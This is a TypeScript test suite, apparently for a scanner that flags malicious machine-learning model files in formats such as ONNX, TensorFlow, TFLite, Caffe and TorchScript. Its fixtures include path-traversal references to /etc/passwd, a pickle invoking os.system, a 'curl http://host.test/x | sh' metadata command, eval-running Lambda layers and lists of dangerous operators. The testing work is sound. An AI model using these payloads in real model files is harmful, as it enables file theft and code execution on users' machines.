import { link, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { openFolder } from '../../sources/index.ts';
import { latin1, mutations, protoBytes as len, protoInt as int, zipBytes } from '../../weights/testing/index.ts';
import { scanFile } from '../index.ts';
import { flatBuffer, json, scanned, text } from '../testing/made.ts';

const bytes = (...fields: number[][]): Uint8Array => Uint8Array.from(fields.flat());
/** StringStringEntryProto */
const entry = (key: string, value: string): number[] => len(13, len(1, key), len(2, value));
const external = (location: string, ...more: number[][]): number[] => [
  ...int(1, 2), ...int(2, 1), ...len(8, 'w'), ...int(14, 1), ...entry('location', location), ...more.flat(),
]; // prettier-ignore
const onnx = (...graph: number[][]): Uint8Array => bytes(int(1, 9), len(7, ...graph, len(2, 'g')), len(8, int(2, 17)));
const node = (op: string, domain = '', ...attributes: number[][]): number[] =>
  len(1, len(1, 'x'), len(2, 'y'), len(4, op), ...(domain ? [len(7, domain)] : []), ...attributes);
const attribute = (name: string, ...value: number[][]): number[] => len(5, len(1, name), ...value);

describe('an ONNX model', () => {
  const away = external('../../etc/passwd');
  test.each([
    ['in an initializer', onnx(len(5, away))],
    ['in the values of a sparse initializer', onnx(len(15, len(1, away)))],
    ['in the indices of a sparse initializer', onnx(len(15, len(2, away)))],
    ['in the attribute of a node', onnx(node('Constant', '', attribute('value', len(5, away))))],
    ['in a list of tensors of a node', onnx(node('Constant', '', attribute('value', len(10, away))))],
    ['in a sparse tensor of a node', onnx(node('Constant', '', attribute('sparse_value', len(22, len(1, away)))))],
    ['in a list of sparse tensors', onnx(node('Constant', '', attribute('sparse_value', len(23, len(2, away)))))],
    ['in a subgraph', onnx(node('If', '', attribute('then_branch', len(6, len(5, away)))))],
    ['in a list of subgraphs', onnx(node('If', '', attribute('branches', len(11, len(15, len(1, away))))))],
    [
      'in a function',
      bytes(
        int(1, 9),
        len(7, node('Relu')),
        len(25, len(1, 'f'), len(10, 'own'), len(7, len(4, 'Constant'), attribute('value', len(5, away)))),
      ),
    ],
    ['in the training graph', bytes(int(1, 9), len(7, node('Relu')), len(20, len(2, len(5, away))))],
    ['by an absolute path', onnx(len(5, external('/etc/passwd')))],
    ['by a drive', onnx(len(5, external('C:\\secret')))],
    ['by a network share', onnx(len(5, external('\\\\host\\share')))],
    ['with backslashes', onnx(len(5, external('a\\..\\..\\secret')))],
    ['by an address', onnx(len(5, external('https://host.test/w')))],
    ['after a detour', onnx(len(5, external('a/../../b')))],
    ['in the second of two locations', onnx(len(5, external('w.bin', entry('location', '../w.bin'))))],
    ['by a base path', onnx(len(5, external('w.bin', entry('basepath', '/etc'))))],
    ['in a compiled program beside it', onnx(node('EPContext', 'com.microsoft', attribute('ep_cache_context', len(4, '../../x.bin'))))],
  ])('that reads a file outside its folder %s is malicious', async (_, file) => {
    const { verdict, rules } = await scanned({ 'm.onnx': file });
    expect(verdict).toBe('malicious');
    expect(rules).toContain('external-path');
  });

  test('has tensors beside it, which are read; a graph among their fields is not taken for one', async () => {
    const tensor = bytes(int(1, 2), int(1, 3), int(2, 1), len(8, 'x'), len(9, new Array<number>(24).fill(7)));
    expect((await scanned({ 'test_data_set_0/input_0.pb': tensor })).verdict).toBe('clean');
    expect((await scanned({ 'input_0.pb': bytes([...tensor], [0x4a, 99]) })).verdict).toBe('unreadable');
    // Unknown fields make no model another one to those who skip them.
    const hidden = bytes(int(1, 9), int(2, 1), len(99, 'x'), len(7, node('PyOp', 'ai.onnx.contrib'), len(5, external('/etc/passwd'))));
    expect((await scanned({ 'input_0.pb': hidden })).verdict).toBe('malicious');
  });

  test('whose path goes up and comes back is suspicious', async () => {
    const { verdict, rules } = await scanned({ 'm.onnx': onnx(len(5, external('a/../w.bin'))) });
    expect([verdict, rules]).toEqual(['suspicious', ['external-path-odd']]);
  });
  test.each([
    ['an unknown key', entry('command', 'x')],
    ['a negative offset', entry('offset', '-4')],
    ['a length in words', entry('length', 'all')],
  ])('whose external values have %s is named broken', async (_, odd) => {
    const { rules } = await scanned({ 'm.onnx': onnx(len(5, external('w.bin', odd))), 'w.bin': new Uint8Array(8) });
    expect(rules).toContain('broken-file');
  });
  test('has inputs beside it, which are tensors alone and judged as such', async () => {
    expect(await scanned({ 'input_0.pb': bytes(int(1, 2), int(2, 1), len(8, 'x'), len(9, 'abcdefgh')) })).toMatchObject({
      verdict: 'clean',
    });
    expect((await scanned({ 'input_0.pb': bytes(away) })).rules).toContain('external-path');
    expect((await scanned({ 'input_0.pb': latin1('\x09cut') })).rules).toContain('broken-file');
  });
  test('with values in a file beside it is clean', async () => {
    expect(await scanned({ 'm.onnx': onnx(len(5, external('w.bin'))), 'w.bin': latin1('abcdefgh') })).toEqual({
      verdict: 'clean',
      rules: [],
    });
  });
  test.each(['PyOp', 'PythonOp', 'PyFunc', 'LuaScriptOp', 'ShellExecScript'])('with the operator %s is malicious', async (op) => {
    expect((await scanned({ 'm.onnx': onnx(node(op, 'com.vendor')) })).rules).toContain('onnx-python-operator');
  });
  test('with operators of a library is suspicious, and names it', async () => {
    expect(await scanned({ 'm.onnx': onnx(node('Roi', 'vendor.plugin')) })).toEqual({ verdict: 'suspicious', rules: ['custom-operator'] });
  });
  test.each(['', 'ai.onnx.ml', 'com.microsoft', 'com.microsoft.nchwc', 'pkg.onnxscript.torch_lib'])(
    'with operators of "%s" is clean',
    async (domain) => {
      expect((await scanned({ 'm.onnx': onnx(node('Gelu', domain)) })).verdict).toBe('clean');
    },
  );
  test('with operators that it defines itself is clean', async () => {
    const file = bytes(int(1, 9), len(7, node('F', 'own')), len(25, len(1, 'F'), len(10, 'own'), len(7, len(4, 'Relu'))));
    expect((await scanned({ 'm.onnx': file })).verdict).toBe('clean');
  });
  test('with a pickle in an attribute is judged by the pickle', async () => {
    const pickle = [...latin1('\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85R.')];
    const { verdict, rules } = await scanned({ 'm.onnx': onnx(node('X', 'com.microsoft', attribute('state', len(4, pickle)))) });
    expect(verdict).toBe('malicious');
    expect(rules).toContain('pickle-dangerous-global');
  });
  test('with a command among its metadata is suspicious', async () => {
    const file = bytes(int(1, 9), len(7, node('Relu')), len(14, len(1, 'setup'), len(2, 'curl http://host.test/x | sh')));
    expect((await scanned({ 'm.onnx': file })).rules).toContain('metadata-code');
  });
});

describe('an ONNX model on a disk', () => {
  test.each([
    ['a link out of the folder', async (folder: string) => symlink('/etc/hostname', join(folder, 'w.bin')), 'malicious'],
    ['a second name of another file', async (folder: string) => link(join(folder, 'm.onnx'), join(folder, 'w.bin')), 'suspicious'],
    ['a file of its own', async (folder: string) => writeFile(join(folder, 'w.bin'), new Uint8Array(8)), 'clean'],
  ] as const)('that reads values from %s is judged', async (_, make, verdict) => {
    const folder = await mkdtemp(join(tmpdir(), 'heirloom-'));
    try {
      await writeFile(join(folder, 'm.onnx'), onnx(len(5, external('w.bin'))));
      await make(folder);
      const tree = await openFolder(folder);
      expect((await scanFile(tree, 'm.onnx')).verdict).toBe(verdict);
      await tree.close();
    } finally {
      await rm(folder, { recursive: true });
    }
  });
});

const tfNode = (op: string, ...attributes: number[][]): number[] => [...len(1, op.toLowerCase()), ...len(2, op), ...attributes.flat()];
const tfAttribute = (key: string, ...value: number[][]): number[] => len(5, len(1, key), len(2, ...value));
const graph = (...nodes: number[][]): number[] => nodes.flatMap((one) => len(1, one));
const constant = (value: ArrayLike<number>): number[] => tfNode('Const', tfAttribute('value', len(8, int(1, 7), len(8, value))));
const saved = (graphs: number[]): Uint8Array => bytes(int(1, 1), len(2, len(1, len(1, 'v')), len(2, graphs)));

describe('a TensorFlow graph', () => {
  const write = graph(tfNode('Placeholder'), tfNode('WriteFile'));
  test.each([
    ['in a frozen graph', 'm.pb', bytes(write)],
    ['in a SavedModel', 'saved_model.pb', saved(write)],
    ['in the function library', 'saved_model.pb', saved(len(2, len(1, len(1, len(1, 'f')), len(3, tfNode('ReadFile')))))],
    ['in a graph inside a constant', 'saved_model.pb', saved(graph(constant(write), tfNode('DatasetFromGraph')))],
    ['in a graph inside an attribute', 'saved_model.pb', saved(graph(tfNode('X', tfAttribute('graph', len(2, write)))))],
    ['in a SavedModel that leaves its version out', 'saved_model.pb', bytes(len(2, len(2, write)))],
    ['in a SavedModel whose version stands last', 'saved_model.pb', bytes(len(2, len(2, write)), int(1, 1))],
    ['in functions alone', 'm.pb', bytes(len(2, len(1, len(1, len(1, 'f')), len(3, tfNode('ReadFile')))), len(4, int(1, 27)))],
    ['in a graph beside a checkpoint', 'model.ckpt.meta', bytes(len(1, len(1, 'v')), len(2, write))],
    ['twice wrapped', 'saved_model.pb', saved(graph(constant(graph(constant(write)))))],
  ])('that reads or writes files %s is malicious', async (_, name, file) => {
    expect(await scanned({ [name]: file })).toMatchObject({
      verdict: 'malicious',
      rules: expect.arrayContaining(['graph-operation']) as string[],
    });
  });
  test.each(['PyFunc', 'EagerPyFunc', 'PyFuncStateless', 'MatchingFiles', 'Rpc'])('with %s is malicious', async (op) => {
    expect((await scanned({ 'saved_model.pb': saved(graph(tfNode('Placeholder'), tfNode(op))) })).verdict).toBe('malicious');
  });
  test('that prints into a file is malicious', async () => {
    const file = saved(graph(tfNode('PrintV2', tfAttribute('output_stream', len(2, 'file:///tmp/x')))));
    expect((await scanned({ 'saved_model.pb': file })).rules).toContain('graph-operation');
  });
  test('in text form is malicious alike', async () => {
    const content = 'meta_graphs { graph_def { node { name: "a" op: "WriteFile" } } }';
    expect((await scanned({ 'saved_model.pbtxt': text(content) })).rules).toContain('graph-operation');
    for (const spelled of ['"Wri" \'teFile\'', '"\\127riteFile"', '"\\x57riteFile"'])
      expect((await scanned({ 'saved_model.pbtxt': text(content.replace('"WriteFile"', spelled)) })).rules).toContain('graph-operation');
    expect((await scanned({ 'saved_model.pbtxt': text(content.replace('WriteFile', 'MatMul')) })).verdict).toBe('clean');
  });
  test.each(['TFRecordDataset', 'SqlDataset', 'ExperimentalSqlDataset', 'DebugIdentityV2'])('with %s is suspicious', async (op) => {
    expect((await scanned({ 'saved_model.pb': saved(graph(tfNode('Placeholder'), tfNode(op))) })).verdict).toBe('suspicious');
  });
  test('that only saves, restores and computes is clean', async () => {
    const file = saved(
      graph(...['Placeholder', 'SaveV2', 'RestoreV2', 'MergeV2Checkpoints', 'ReadVariableOp', 'MatMul', 'PrintV2'].map((op) => tfNode(op))),
    );
    expect(await scanned({ 'saved_model.pb': file })).toEqual({ verdict: 'clean', rules: [] });
  });
  test('with a Lambda layer in keras_metadata.pb is judged', async () => {
    const node = JSON.stringify({ class_name: 'Lambda', config: { function: "lambda x: eval('1')" } });
    expect((await scanned({ 'keras_metadata.pb': bytes(len(1, int(2, 1), len(5, node))) })).rules).toContain('keras-runs');
  });
});

describe('a TensorFlow Lite model', () => {
  /** A number where an offset belongs. */
  const WILD = 0x7fff_ff00;
  const model = (
    code: { table: readonly (string | number | null)[] },
    graphs: unknown[] = [{ table: [[{ table: [[1, 2], null, 1, 'in'] }], [0], [0], [{ table: [0, [0], [0]] }], 'main'] }],
  ): Uint8Array =>
    flatBuffer({ table: [3, [code], graphs as never, 'a model', [{ table: [] }, { table: [{ raw: latin1('abcdefgh') }] }]] });
  test('of its own operators is clean', async () => {
    expect(await scanned({ 'm.tflite': model({ table: [9, null, 1] }) })).toEqual({ verdict: 'clean', rules: [] });
  });
  test.each([
    ['FlexWriteFile', 'malicious', 'graph-operation'],
    ['FlexReadFile', 'malicious', 'graph-operation'],
    ['FlexTFRecordDataset', 'suspicious', 'graph-operation-trust'],
    ['VendorSecretOp', 'suspicious', 'custom-operator'],
  ])('with the operator %s is %s', async (op, verdict, rule) => {
    expect(await scanned({ 'm.tflite': model({ table: [32, op, 1] }) })).toEqual({ verdict, rules: [rule] });
  });
  test.each(['FlexErf', 'TFLite_Detection_PostProcess', 'SignalFilterBankLog', 'ParseExampleV2'])(
    'with the operator %s is clean',
    async (op) => {
      expect((await scanned({ 'm.tflite': model({ table: [32, op, 1] }) })).verdict).toBe('clean');
    },
  );
  test.each([
    ['a tensor that is not there', [{ table: [[], [7], [0], [], 'main'] }]],
    ['a buffer that is not there', [{ table: [[{ table: [[1], null, 9, 'in'] }], [0], [0], [], 'main'] }]],
    ['a scale outside itself', [{ table: [[{ table: [[1], null, 1, 'in', { table: [null, null, WILD] }] }], [0], [0], [], 'main'] }]],
    ['a quantization outside itself', [{ table: [[{ table: [[1], null, 1, 'in', WILD] }], [0], [0], [], 'main'] }]],
    [
      'a sparse axis outside itself',
      [{ table: [[{ table: [[1], null, 1, 'in', null, null, { table: [[0], null, WILD] }] }], [0], [0], [], 'main'] }],
    ],
    ['options outside itself', [{ table: [[{ table: [[1], null, 1, 'in'] }], [0], [0], [{ table: [0, [0], [0], 1, WILD] }], 'main'] }]],
    ['an operator that is not there', [{ table: [[{ table: [[1], null, 1, 'in'] }], [0], [0], [{ table: [5, [0], [0]] }], 'main'] }]],
  ])('that names %s is broken', async (_, graphs) => {
    expect((await scanned({ 'm.tflite': model({ table: [9, null, 1] }, graphs) })).rules).toEqual(['broken-file']);
  });
  test('is judged or refused wherever it is damaged', async () => {
    const good = model({ table: [32, 'FlexErf', 1] });
    await fc.assert(
      fc.asyncProperty(mutations(good, good.length), async (damaged) => void (await scanned({ 'm.tflite': damaged }))),
      { numRuns: 300 },
    );
  });
});

describe('a TensorFlow.js model', () => {
  const model = (more: object): Uint8Array => json({ format: 'layers-model', modelTopology: {}, weightsManifest: [], ...more });
  test.each([
    [
      'a layer that runs code',
      {
        modelTopology: {
          model_config: { class_name: 'Sequential', config: { layers: [{ class_name: 'Lambda', config: { function: 'os.system' } }] } },
        },
      },
      'keras-runs',
    ],
    [
      'an operation that writes files',
      { format: 'graph-model', modelTopology: { node: [{ name: 'a', op: 'WriteFile' }] } },
      'graph-operation',
    ],
    [
      'one in its function library',
      { format: 'graph-model', modelTopology: { node: [], library: { function: [{ nodeDef: [{ op: 'PyFunc' }] }] } } },
      'graph-operation',
    ],
    ['shards outside its folder', { weightsManifest: [{ paths: ['../../x.bin'], weights: [] }] }, 'external-path'],
    ['shards somewhere else', { weightsManifest: [{ paths: ['https://host.test/x.bin'], weights: [] }] }, 'odd-address'],
  ])('with %s is told', async (_, more, rule) => {
    expect((await scanned({ 'model.json': model(more) })).rules).toContain(rule);
  });
  test('of plain layers is clean', async () => {
    const layers = [
      { class_name: 'InputLayer', config: {} },
      { class_name: 'Dense', config: { units: 4, activation: 'relu' } },
    ];
    expect(
      (await scanned({ 'model.json': model({ modelTopology: { model_config: { class_name: 'Sequential', config: { layers } } } }) }))
        .verdict,
    ).toBe('clean');
  });
});

describe('a Caffe model', () => {
  const layer = (type: string, ...more: number[][]): Uint8Array =>
    bytes(len(1, 'net'), len(100, len(1, 'l1'), len(2, type), ...more), len(100, len(1, 'l2'), len(2, 'ReLU')));
  test('with a Python layer is suspicious, with one that runs programs malicious', async () => {
    expect((await scanned({ 'm.caffemodel': layer('Python', len(130, len(1, 'my_layers'))) })).rules).toContain('code-on-trust');
    expect((await scanned({ 'm.caffemodel': layer('Python', len(130, len(1, 'subprocess'))) })).verdict).toBe('malicious');
  });
  test('in text form alike', async () => {
    expect(
      (await scanned({ 'm.prototxt': text('layer { name: "a" type: "Python" python_param { module: "os" layer: "X" } }') })).verdict,
    ).toBe('malicious');
    expect((await scanned({ 'm.prototxt': text('layer { name: "a" type: "Convolution" }') })).verdict).toBe('clean');
  });
  test('of plain layers is clean', async () => {
    expect((await scanned({ 'm.caffemodel': layer('Convolution') })).verdict).toBe('clean');
  });
});

describe('a TorchScript archive', () => {
  const archive = (code: string): Uint8Array =>
    zipBytes([
      { name: 'm/data.pkl', data: latin1('\x80\x02}.') },
      { name: 'm/constants.pkl', data: latin1('\x80\x02).') },
      { name: 'm/code/__torch__.py', data: text(code) },
    ]);
  test.each([
    'def forward(self, x: Tensor) -> Tensor:\n  torch.save(x, "/tmp/x")\n  return x',
    'def forward(self, x: Tensor) -> Tensor:\n  return torch.from_file("/etc/passwd", True, 10)',
    'def forward(self, x: Tensor) -> Tensor:\n  ops.image.write_file("/tmp/x", x)\n  return x',
    'def forward(self, x: Tensor) -> Tensor:\n  return ops.torchaudio.sox_io_load_audio_file("x")',
    'def forward(self, x: Tensor) -> Tensor:\n  return ops.aten.from_file("x")',
  ])('that runs %s is malicious', async (code) => {
    expect(await scanned({ 'm.pt': archive(code) })).toMatchObject({
      verdict: 'malicious',
      rules: expect.arrayContaining(['torchscript-operator']) as string[],
    });
  });
  test('with operators of another library is suspicious', async () => {
    expect((await scanned({ 'm.pt': archive('def forward(self):\n  return ops.vendor.secret(self)') })).verdict).toBe('suspicious');
  });
  test.each([
    'def forward(self, x: Tensor) -> Tensor:\n  _0 = torch.conv2d(x, self.weight)\n  return torch.relu(_0)',
    'def forward(self, x: Tensor) -> Tensor:\n  return ops.torchvision.nms(x, x, 0.5)',
    'def forward(self, x: Tensor) -> Tensor:\n  ops.prim.RaiseException("torch.save(x) is not allowed")\n  return x',
  ])('that runs %s is clean', async (code) => {
    expect((await scanned({ 'm.pt': archive(code) })).verdict).toBe('clean');
  });
});
